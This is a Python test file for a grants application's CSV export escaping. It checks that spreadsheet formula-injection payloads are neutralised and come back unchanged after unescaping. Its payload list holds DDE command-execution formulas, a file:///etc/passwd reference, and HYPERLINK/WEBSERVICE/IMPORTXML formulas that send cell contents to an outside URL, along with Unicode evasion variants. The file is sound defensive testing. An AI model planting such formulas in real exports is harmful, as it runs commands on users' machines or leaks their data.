"""No text becomes a live cell, and each comes back as it was."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from grants.exports.escaping import safe_csv_text, unescape, without_controls
from grants.exports.writers import Column, write_csv

PAYLOADS = [
    "=1+1",
    "==1+1",
    "=cmd|'/C calc'!A0",
    "='file:///etc/passwd'#$A$1",
    '=HYPERLINK("http://example.org/?"&A1,"Voir")',
    '=WEBSERVICE("http://example.org/"&A1)',
    '=IMPORTXML("http://example.org/","//a")',
    "+1+1",
    "+cmd|' /C notepad'!A0",
    "++1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "--1",
    "- 5",
    "@SUM(1+1)",
    "@@A1",
    "|calc",
    "\t=1+1",
    "\t1",
    "\r=1+1",
    "\r\n=1+1",
    "\n=1+1",
    " =1+1",
    "   +1",
    "\xa0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\u200e@SUM(1)",
    "\ufeff=1+1",
    "\u2060-1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " ＝1+1",
    '"=1+1',
    "'=1+1",
    "''=1+1",
    "Alma;=1+1;suite",
    "Alma; @SUM(1)",
    'Alma;"=1+1;suite',
    "Alma\n=1+1",
    "Alma\t=1+1",
]
TRIGGERS = "=+-@|\t\r\n＝＋－＠"
SKIPPED = ' "\xa0\u3000\u200b\u200e\ufeff\u2060\x00'


def as_a_program_sees_it(text: str) -> str:
    """A cell without what programs skip before they look at its first character."""
    return text.lstrip(SKIPPED)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_starts_like_a_formula(payload):
    assert as_a_program_sees_it(safe_csv_text(payload))[:1] not in TRIGGERS


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_comes_back_as_it_was(payload):
    assert unescape(safe_csv_text(payload)) == payload


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_payload_is_live_in_a_file_however_it_is_cut(payload, delimiter):
    file = b"".join(write_csv([Column("a"), Column("b")], [["x", payload]])).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(file, newline=""), delimiter=delimiter):
        for cell in row:
            assert not cell or as_a_program_sees_it(cell)[:1] not in TRIGGERS


@pytest.mark.parametrize("number", [Decimal("-5.10"), -5, 0, -1.5, True, None])
def test_numbers_are_left_as_they_are(number):
    assert safe_csv_text(number) is number


@pytest.mark.parametrize(
    "text", ["Groupe MISA", "l'école", "'t Hof", "a - b", "a=b", "50 %", "", "courriel@exemple.ca"]
)
def test_ordinary_text_is_left_as_it_is(text):
    assert safe_csv_text(text) == text
    assert unescape(text) == text


@given(st.text() | st.text(alphabet="'=;\n\t a-\r\ufeff＝b@|\"\x00"))
def test_any_text_comes_back_as_it_was(text):
    assert unescape(safe_csv_text(text)) == text


@given(st.text() | st.text(alphabet="'=;\n\t a-\r\ufeff＝b@|\"\x00"))
def test_no_text_starts_like_a_formula(text):
    assert not (safe := as_a_program_sees_it(safe_csv_text(text))) or safe[0] not in TRIGGERS


def test_control_characters_are_dropped_and_line_ends_unified():
    assert without_controls("a\x00b\x1fc\ud800\r\nd\te") == "abc\nd\te"
